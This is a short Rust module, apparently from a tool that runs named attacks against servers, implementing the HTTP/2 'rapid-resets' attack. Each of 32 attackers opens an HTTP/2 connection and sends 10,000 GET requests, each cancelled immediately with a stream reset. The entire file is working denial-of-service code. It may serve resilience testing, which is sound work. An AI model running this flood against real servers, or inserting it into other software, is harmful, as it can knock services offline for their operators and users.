//! Gives up HTTP/2 requests right after their beginning.

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "rapid-resets",
    about: "Gives up HTTP/2 requests right after their beginning",
    targets: WITH_HTTP2,
    attackers: 32,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect_http2(&[]).await?;
    for n in 0..10_000 {
        let stream_id = 2 * n + 1;
        let token = format!("Bearer {}", fastrand::u64(..));
        let request = frames::get_with(stream_id, "authorization", &token);
        stream.write_all(&[request, frames::reset(stream_id)].concat()).await?;
    }
    Ok(())
}
